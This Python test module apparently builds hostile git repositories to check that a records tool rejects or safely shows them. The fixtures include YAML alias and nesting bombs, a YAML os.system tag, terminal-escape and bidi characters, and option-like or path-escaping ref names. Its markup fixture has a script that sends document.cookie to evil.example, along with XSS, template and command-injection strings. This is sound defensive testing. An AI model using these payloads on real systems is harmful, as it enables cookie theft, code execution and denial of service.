"""What is hostile within records, commits and names of refs."""

from .kind import FIRST, PROOF, Kind, commit, entry, programme
from .raw import AUTHOR

REJECTED = "check tells of that record, with a reason, within seconds; the sound entry is read"
SHOWN = "shown without control characters, everywhere"
ESCAPES = b"\x1b[31mred\x07 \x1b]0;title\x07 \x1b[2J\r\x08\x7f \xc2\x9b31m \xe2\x80\xaedesrever\xe2\x80\xac \xe2\x80\x8bhidden"


def record(front, text="Text."):
    return f"---\nschema: enquiry/1\nshare: public\n{front}\n---\n\n{text}\n"


def record_bombs(front):
    """The same in an entry, in the plan and in the programme's own file."""

    def fill(store):
        files = programme(
            pairs={"evidence": {FIRST: record(front)}},
            alliance={"second": {"enquiry.md": record(front)}},
            enquiries={"oak": {"alliance.yaml": f"schema: enquiry/1\n{front}\n"}},
        )
        commit(store, files)

    return fill


def aliases():
    """Nine levels of nine: 387 million words of a few hundred bytes."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    return "\n".join(lines)


def many_keys():
    """Keys given twice, merged, tagged, and of other kinds than words."""
    return (
        "school: Elm\nschool: Oak\n<<: {share: me}\nrole: !!python/object/apply:os.system ['touch " + PROOF + "']\n"
        "? [a, b]\n: c\ncodes: !!binary aGVsbG8=\nid: !<tag:x> y"
    )


def escapes(store):
    """Control characters in all that a commit and a record say."""
    author = b"Ada \x1b[31mred\x07\xc2\x9b31m <ada\x1b]0;t\x07@school.example> 1700000000 +0000"
    text = entry(ESCAPES.decode())
    first = commit(
        store,
        programme(pairs={"evidence": {FIRST: text}}),
        author=author,
        message=b"Add \x1b[2Jrecords\r\x07\n\n" + ESCAPES + b"\n",
    )
    store.branch(
        store.commit(
            store.files(
                programme(
                    alliance={
                        "alliance.yaml": b'schema: enquiry/1\nname: "'
                        + ESCAPES.replace(b"\x1b", b"\\e")
                        .replace(b"\x07", b"\\a")
                        .replace(b"\r", b"\\r")
                        .replace(b"\x08", b"\\b")
                        .replace(b"\x7f", b"\\x7F")
                        + b'"\n'
                    }
                )
            ),
            author=author,
            message=ESCAPES,
            parents=[first],
        )
    )


def ref_names(store):
    """Branches and tags whose names would turn a terminal over, look like options, or lead elsewhere."""
    oid = commit(store, programme())
    names = [
        "\u202edesrever".encode(),
        "\u009b31m".encode(),
        b"-oProxyCommand=x",
        b"--upload-pack=touch",
        b"x" * 4000,
        b"HEAD",
        "main\u200b".encode(),
        b"refs/heads/main",
        b"\xff\xfe",
        b"con",
        b"CON/aux",
        b"Main",
        b";touch " + PROOF.encode(),
    ]
    store.packed_refs([(b"refs/heads/" + name, oid) for name in names] + [(b"refs/tags/" + name, oid) for name in names])


def dangerous_refs(store):
    """Names of refs that git does not allow: git's own list of them leads out of the repository."""
    oid = commit(store, programme())
    names = [b"\x1b[31mred\x07", b"a..b", b"../../../HEAD", b"x.lock", b"@{1}", b"a b", b".hidden", b"../../config", b"a//b"]
    store.packed_refs([(b"refs/heads/" + name, oid) for name in names])


def authors(store):
    """Who says to be somebody else, in years that are not, and in no form that git knows."""
    oid = None
    for author in [
        AUTHOR.replace(b"1700000000", b"0"),
        AUTHOR.replace(b"1700000000", b"4102444800"),
        b"Head <head@school.example> 99999999999999999999 +9999",
        b"<> 1 -0000",
        b"no mail at all",
        b"Two <a@b> <c@d> 1700000000 +0000",
        AUTHOR.replace(b"1700000000", b"-86400"),
        b"A" * 100_000 + b" <a@b> 1 +0000",
    ]:
        oid = store.commit(store.files(programme()), author=author, parents=[oid] if oid else [])
    store.branch(oid)


def markup(store):
    """Text that would run in a browser, a spreadsheet or a word processor."""
    text = (
        "<script>fetch('http://evil.example/'+document.cookie)</script>\n\n<img src=x onerror=alert(1)>\n\n"
        "[click](javascript:alert(1))\n\n"
        f'![](file:///etc/passwd) ![](http://127.0.0.1:1/x.png)\n\n<svg onload=alert(1)>\n\n=HYPERLINK("http://evil.example")\n\n'
        f"{{{{ 7*7 }}}} ${{7*7}} <% 7*7 %> $(touch {PROOF}) `touch {PROOF}`\n"
    )
    commit(store, programme(pairs={"evidence": {FIRST: entry(text)}}))


def not_text(store):
    """Records that are no UTF-8, hold noughts, begin with a mark of order, or are empty."""
    commit(
        store,
        programme(
            pairs={
                "evidence": {
                    FIRST: b"---\nschema: enquiry/1\n---\n\n\xff\xfe\xc0\xaf\xed\xa0\x80\n",
                    "2014-03-06-other-aaaaaaa2.md": bytes(5000),
                    "2014-03-06-other-aaaaaaa3.md": entry().encode("utf-16"),
                    "2014-03-06-other-aaaaaaa4.md": b"",
                    "2014-03-06-other-aaaaaaa5.md": b"---\n" * 99_999,
                }
            }
        ),
    )


def shows(path, pattern):
    return ["cat-file", "-p", f"main:enquiries/elm/pairs/evidence/{path}"], pattern


KINDS = [
    Kind("aliases", REJECTED, record_bombs(aliases()), [shows(FIRST, r"a8: &a8 \[\*a7")]),
    Kind("nesting", REJECTED, record_bombs("codes: " + "[" * 100_000), [shows(FIRST, r"\[{1000}")]),
    Kind("mapping", REJECTED, record_bombs("codes: " + "{a: " * 50_000), [shows(FIRST, r"(\{a: ){1000}")]),
    Kind("keys", REJECTED, record_bombs(many_keys()), [shows(FIRST, "os.system")]),
    Kind("number", REJECTED, record_bombs("id: " + "9" * 1_000_000 + "\ndate: 99999-99-99"), [shows(FIRST, "9{1000}")]),
    Kind(
        "escapes",
        SHOWN,
        escapes,
        [
            (["cat-file", "-p", "main"], "\x1b\\[31mred\x07"),
            (["cat-file", "-p", "main~1"], "Add \x1b\\[2Jrecords"),
            (["fsck"], r"\A(?!.*(error|fatal))"),
        ],
    ),
    Kind(
        "refnames",
        "only main is read; the others are neither copied nor shown",
        ref_names,
        [(["for-each-ref", "--format=%(refname)"], r"refs/heads/-oProxyCommand=x.*\u009b31m.*\u202edesrever")],
    ),
    Kind(
        "badrefs",
        "only main is read; or refused in words",
        dangerous_refs,
        [(["for-each-ref"], "packed refname is dangerous"), (["rev-parse", "main"], r"[0-9a-f]{40}|dangerous")],
    ),
    Kind(
        "authors",
        SHOWN + "; their years and forms break nothing",
        authors,
        [(["fsck"], "badDateOverflow|missingEmail|badDate|missingSpaceBeforeDate"), (["rev-list", "--count", "main"], "^8$")],
    ),
    Kind("markup", "shown as text, in packs as well", markup, [shows(FIRST, "<script>")]),
    Kind("nottext", REJECTED, not_text, [shows(FIRST, "\ufffd"), shows("2014-03-06-other-aaaaaaa5.md", "(---\n){100}")]),
]
